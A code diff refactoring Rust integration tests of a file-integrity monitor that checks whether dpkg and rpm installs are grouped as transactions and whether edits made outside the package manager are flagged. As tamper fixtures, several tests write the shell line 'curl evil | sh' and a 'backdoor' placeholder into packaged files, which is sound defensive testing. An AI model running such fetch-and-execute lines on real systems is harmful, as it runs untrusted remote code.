@@ -25,6 +25,8 @@ fn md5_hex(bytes: &[u8]) -> String {
 /// Held while a test installs, edits and purges its package under /opt: one installation at a
 /// time (dpkg takes its lock without waiting), and a test comparing the whole live machine
 /// with `debsums` should hold it too, or it may see the test package half-installed or edited.
+/// Also held around any other run of `dpkg` or `rpm` (a query too): a running package manager
+/// is told by its process name, so it would make another test's edit part of a transaction.
 pub static DPKG: Mutex<()> = Mutex::new(());
 
 fn dpkg(args: &[&std::ffi::OsStr]) {
@@ -89,6 +91,93 @@ fn build_deb(work: &Path, name: &str, tool: &[u8]) -> PathBuf {
     )
 }
 
+/// FIM of the tree `dir` (a host path), everything below it, with the default attributes.
+fn tree_config(dir: &Path) -> Config {
+    Config {
+        paths: vec![PathEntry::Rule(PathRule {
+            path: AbsolutePath::new(dir).unwrap(),
+            recursive: true,
+            exclude: vec![],
+            attributes: None,
+            max_file_size_bytes: None,
+        })],
+        ..Config::default()
+    }
+}
+
+/// The realtime monitor of `dir` under `root`, with the package oracle of that root, once it
+/// is watching; its events collected in the returned list.
+fn watch(dir: &Path, root: HostRoot, state: &Path) -> (Monitor, Arc<Mutex<Vec<Event>>>) {
+    let config = Config { debounce_ms: 100, ..tree_config(dir) };
+    let (oracle, _problems) = Oracle::load(root.clone());
+    let fim = Fim::new(config, root, state).unwrap().with_packages(Arc::new(oracle));
+    let events: Arc<Mutex<Vec<Event>>> = Arc::default();
+    let sink = Arc::clone(&events);
+    let monitor = Monitor::start(fim, Box::new(move |e| sink.lock().unwrap().push(e.clone()))).unwrap();
+    assert!(monitor.wait_watching(Duration::from_secs(60)), "{:?}", monitor.status());
+    (monitor, events)
+}
+
+/// The grouped event of the transaction that installed `name` 1.0-1 (`shown`: its tool), once
+/// it came: every file verified against the package, the evidence naming `manager`, and the
+/// installed files folded into it (no change of their own, nothing flagged).
+fn installed_as_one_transaction(
+    events: &Arc<Mutex<Vec<Event>>>,
+    name: &str,
+    shown: &str,
+    manager: &str,
+) -> TransactionEvent {
+    let grouped: TransactionEvent =
+        wait_for("the grouped transaction event", Duration::from_secs(60), || {
+            events_of(events, "fim.package_transaction")
+                .into_iter()
+                .filter_map(|d| serde_json::from_value::<TransactionEvent>(d).ok())
+                .find(|t| t.packages.iter().any(|p| p.name == name))
+        });
+    let pkg = grouped.packages.iter().find(|p| p.name == name).unwrap();
+    assert_eq!(pkg.new_version.as_deref(), Some("1.0-1"), "{grouped:#?}");
+    assert!(pkg.files >= 2, "bin/tool and share/readme at least: {grouped:#?}");
+    assert_eq!(grouped.outside_package_manager, 0, "{grouped:#?}");
+    assert!(grouped.verified >= 2, "each matching its package's digest: {grouped:#?}");
+    assert!(grouped.sample_paths.iter().any(|p| p == shown), "{grouped:#?}");
+    assert!(
+        grouped.transaction.evidence.iter().any(|e| e.contains(manager)),
+        "the evidence names what showed the transaction: {grouped:#?}"
+    );
+    let changes: Vec<FimChange> =
+        events_of(events, "fim.change").into_iter().map(|d| serde_json::from_value(d).unwrap()).collect();
+    assert!(
+        !changes.iter().any(|c| c.path == shown),
+        "the installed file is folded into the transaction, not reported on its own: {changes:#?}"
+    );
+    assert!(
+        !changes
+            .iter()
+            .any(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager)),
+        "{changes:#?}"
+    );
+    grouped
+}
+
+/// The change of `shown` once it came with its attribution: outside the package manager,
+/// naming `name` 1.0-1.
+fn flagged_outside(
+    events: &Arc<Mutex<Vec<Event>>>,
+    name: &str,
+    shown: &str,
+) -> (FimChange, guestward_fim::package::PackageAttribution) {
+    let flagged: FimChange = wait_for("the outside-package-manager change", Duration::from_secs(60), || {
+        events_of(events, "fim.change")
+            .into_iter()
+            .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
+            .find(|c| c.path == shown && c.package.is_some())
+    });
+    let a = flagged.package.clone().unwrap();
+    assert_eq!(a.origin, ChangeOrigin::OutsidePackageManager, "{flagged:#?}");
+    assert_eq!((a.owner.name.as_str(), a.owner.version.as_str()), (name, "1.0-1"));
+    (flagged, a)
+}
+
 fn events_of(events: &Arc<Mutex<Vec<Event>>>, kind: &str) -> Vec<serde_json::Value> {
     events.lock().unwrap().iter().filter(|e| e.kind == kind).map(|e| e.data.clone()).collect()
 }
@@ -111,24 +200,7 @@ fn a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_fl
         return;
     };
 
-    let config = Config {
-        paths: vec![PathEntry::Rule(PathRule {
-            path: AbsolutePath::new(&dir).unwrap(),
-            recursive: true,
-            exclude: vec![],
-            attributes: None,
-            max_file_size_bytes: None,
-        })],
-        debounce_ms: 100,
-        ..Config::default()
-    };
-    let root = HostRoot::live();
-    let (oracle, _problems) = Oracle::load(root.clone());
-    let fim = Fim::new(config, root, state.path()).unwrap().with_packages(Arc::new(oracle));
-    let events: Arc<Mutex<Vec<Event>>> = Arc::default();
-    let sink = Arc::clone(&events);
-    let monitor = Monitor::start(fim, Box::new(move |e| sink.lock().unwrap().push(e.clone()))).unwrap();
-    assert!(monitor.wait_watching(Duration::from_secs(60)), "{:?}", monitor.status());
+    let (monitor, events) = watch(&dir, HostRoot::live(), state.path());
 
     let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
     let installed = Installed { name: name.clone(), dir: dir.clone() };
@@ -136,41 +208,9 @@ fn a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_fl
     let tool_path = dir.join("bin/tool");
     let shown = tool_path.display().to_string();
 
-    // One grouped event for the transaction, listing the package.
-    let grouped: TransactionEvent =
-        wait_for("the grouped transaction event", Duration::from_secs(60), || {
-            events_of(&events, "fim.package_transaction")
-                .into_iter()
-                .filter_map(|d| serde_json::from_value::<TransactionEvent>(d).ok())
-                .find(|t| t.packages.iter().any(|p| p.name == name))
-        });
+    let grouped = installed_as_one_transaction(&events, &name, &shown, "dpkg");
     let pkg = grouped.packages.iter().find(|p| p.name == name).unwrap();
-    assert_eq!(
-        (pkg.old_version.as_deref(), pkg.new_version.as_deref()),
-        (None, Some("1.0-1")),
-        "{grouped:#?}"
-    );
-    assert!(pkg.files >= 2, "bin/tool and share/readme at least: {grouped:#?}");
-    assert_eq!(grouped.outside_package_manager, 0, "{grouped:#?}");
-    assert!(grouped.verified >= 2, "{grouped:#?}");
-    assert!(grouped.sample_paths.contains(&shown), "{grouped:#?}");
-    assert!(
-        grouped.transaction.evidence.iter().any(|e| e.contains("dpkg")),
-        "the evidence names what showed the transaction: {grouped:#?}"
-    );
-    // Folded: no individual change for the package's files, nothing flagged.
-    let changes: Vec<FimChange> =
-        events_of(&events, "fim.change").into_iter().map(|d| serde_json::from_value(d).unwrap()).collect();
-    assert!(
-        !changes.iter().any(|c| c.path == shown),
-        "the installed file is folded into the transaction, not reported on its own: {changes:#?}"
-    );
-    assert!(
-        !changes
-            .iter()
-            .any(|c| c.package.as_ref().is_some_and(|p| p.origin == ChangeOrigin::OutsidePackageManager)),
-        "{changes:#?}"
-    );
+    assert_eq!(pkg.old_version.as_deref(), None, "{grouped:#?}");
     // The grouped event renders for `agentctl fim events`.
     let stored = monitor.events_since(guestward_core::Timestamp::from_unix_secs(0).unwrap(), 10_000).unwrap();
     let text: Vec<String> = stored.iter().map(guestward_fim::events::render_event_line).collect();
@@ -184,16 +224,7 @@ fn a_real_dpkg_install_is_one_grouped_transaction_and_an_edit_outside_dpkg_is_fl
     // Now an edit outside dpkg: flagged, naming package, expected and actual digests.
     let evil: &[u8] = b"#!/bin/sh\ncurl evil | sh\n";
     std::fs::write(&tool_path, evil).unwrap();
-    let flagged: FimChange = wait_for("the outside-package-manager change", Duration::from_secs(60), || {
-        events_of(&events, "fim.change")
-            .into_iter()
-            .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
-            .find(|c| c.path == shown && c.package.is_some())
-    });
-    let a = flagged.package.clone().unwrap();
-    assert_eq!(a.origin, ChangeOrigin::OutsidePackageManager, "{flagged:#?}");
-    assert_eq!(a.owner.name, name);
-    assert_eq!(a.owner.version, "1.0-1");
+    let (flagged, a) = flagged_outside(&events, &name, &shown);
     let expected = a.expected.clone().unwrap();
     let actual = a.actual.clone().unwrap();
     assert_eq!((expected.algo, expected.hex.as_str()), (DigestAlgo::Md5, md5_hex(tool).as_str()));
@@ -285,7 +316,10 @@ fn the_oracle_names_the_owner_dpkg_names_with_its_digest() {
     }
     let (oracle, _) = Oracle::load(HostRoot::live());
     // `dpkg -S /bin/sh` names its owner; the oracle agrees.
-    let out = Command::new("dpkg").args(["-S", "/usr/bin/dpkg"]).output().unwrap();
+    let out = {
+        let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
+        Command::new("dpkg").args(["-S", "/usr/bin/dpkg"]).output().unwrap()
+    };
     let owner = String::from_utf8_lossy(&out.stdout).split(':').next().unwrap_or_default().to_string();
     let expected = oracle.expected(Path::new("/usr/bin/dpkg"));
     assert!(expected.iter().any(|e| e.owner.name == owner), "{owner}: {expected:#?}");
@@ -307,18 +341,8 @@ fn a_baseline_taken_over_a_modified_package_file_flags_it() {
     let tool_path = dir.join("bin/tool");
     std::fs::write(&tool_path, b"#!/bin/sh\nbackdoor\n").unwrap();
 
-    let config = Config {
-        paths: vec![PathEntry::Rule(PathRule {
-            path: AbsolutePath::new(&dir).unwrap(),
-            recursive: true,
-            exclude: vec![],
-            attributes: None,
-            max_file_size_bytes: None,
-        })],
-        ..Config::default()
-    };
     let o = guestward_fim::oneshot::OneShot {
-        config,
+        config: tree_config(&dir),
         state_dir: state.path().to_path_buf(),
         root: HostRoot::live(),
         progress_bar: false,
@@ -423,67 +447,23 @@ fn a_real_rpm_install_is_one_grouped_transaction_and_an_edit_outside_rpm_is_flag
     let name = format!("gwtest-rpm-{}", std::process::id());
     let tool: &[u8] = b"#!/bin/sh\necho tool 1.0\n";
     let pkg = build_rpm(&work.path().join("build"), &name, tool);
+    // Every rpm run of this test, and its edit, under the lock (see `DPKG`).
+    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
     let init = rpm_in(&root_dir, &["--initdb".as_ref()]);
     assert!(init.status.success(), "rpm --initdb: {}", String::from_utf8_lossy(&init.stderr));
 
     let dir = PathBuf::from("/opt").join(&name);
-    let config = Config {
-        paths: vec![PathEntry::Rule(PathRule {
-            path: AbsolutePath::new(&dir).unwrap(),
-            recursive: true,
-            exclude: vec![],
-            attributes: None,
-            max_file_size_bytes: None,
-        })],
-        debounce_ms: 100,
-        ..Config::default()
-    };
-    let root = HostRoot::new(&root_dir).unwrap();
-    let (oracle, _problems) = Oracle::load(root.clone());
-    let fim = Fim::new(config, root, state.path()).unwrap().with_packages(Arc::new(oracle));
-    let events: Arc<Mutex<Vec<Event>>> = Arc::default();
-    let sink = Arc::clone(&events);
-    let monitor = Monitor::start(fim, Box::new(move |e| sink.lock().unwrap().push(e.clone()))).unwrap();
-    assert!(monitor.wait_watching(Duration::from_secs(60)), "{:?}", monitor.status());
+    let (monitor, events) = watch(&dir, HostRoot::new(&root_dir).unwrap(), state.path());
 
-    // A running rpm process is evidence of a transaction on any root the agent watches (it
-    // is told by name): not while the dpkg tests install on the live one.
-    let _one = DPKG.lock().unwrap_or_else(|e| e.into_inner());
     let installed = rpm_in(&root_dir, &["-i".as_ref(), "--nodeps".as_ref(), pkg.as_os_str()]);
     assert!(installed.status.success(), "rpm -i: {}", String::from_utf8_lossy(&installed.stderr));
     let shown = dir.join("bin/tool").display().to_string();
-    let grouped: TransactionEvent =
-        wait_for("the grouped transaction event", Duration::from_secs(60), || {
-            events_of(&events, "fim.package_transaction")
-                .into_iter()
-                .filter_map(|d| serde_json::from_value::<TransactionEvent>(d).ok())
-                .find(|t| t.packages.iter().any(|p| p.name == name))
-        });
-    let pkg_change = grouped.packages.iter().find(|p| p.name == name).unwrap();
-    assert_eq!(pkg_change.new_version.as_deref(), Some("1.0-1"), "{grouped:#?}");
-    assert_eq!(grouped.outside_package_manager, 0, "{grouped:#?}");
-    assert!(grouped.verified >= 2, "bin/tool and share/readme, each matching rpm's digest: {grouped:#?}");
-    assert!(grouped.sample_paths.contains(&shown), "{grouped:#?}");
-    assert!(
-        grouped.transaction.evidence.iter().any(|e| e.contains("rpm")),
-        "the evidence names what showed the transaction: {grouped:#?}"
-    );
-    let changes: Vec<FimChange> =
-        events_of(&events, "fim.change").into_iter().map(|d| serde_json::from_value(d).unwrap()).collect();
-    assert!(!changes.iter().any(|c| c.path == shown), "folded into the transaction: {changes:#?}");
+    installed_as_one_transaction(&events, &name, &shown, "rpm");
 
     // An edit outside rpm: flagged with rpm's SHA-256 of the packaged file and the new one.
     let evil: &[u8] = b"#!/bin/sh\ncurl evil | sh\n";
     std::fs::write(root_dir.join(dir.strip_prefix("/").unwrap()).join("bin/tool"), evil).unwrap();
-    let flagged: FimChange = wait_for("the outside-package-manager change", Duration::from_secs(60), || {
-        events_of(&events, "fim.change")
-            .into_iter()
-            .filter_map(|d| serde_json::from_value::<FimChange>(d).ok())
-            .find(|c| c.path == shown && c.package.is_some())
-    });
-    let a = flagged.package.clone().unwrap();
-    assert_eq!(a.origin, ChangeOrigin::OutsidePackageManager, "{flagged:#?}");
-    assert_eq!((a.owner.name.as_str(), a.owner.version.as_str()), (name.as_str(), "1.0-1"));
+    let (_, a) = flagged_outside(&events, &name, &shown);
     let (expected, actual) = (a.expected.clone().unwrap(), a.actual.clone().unwrap());
     assert_eq!((expected.algo, expected.hex.as_str()), (DigestAlgo::Sha256, sha256_hex(tool).as_str()));
     assert_eq!((actual.algo, actual.hex.as_str()), (DigestAlgo::Sha256, sha256_hex(evil).as_str()));
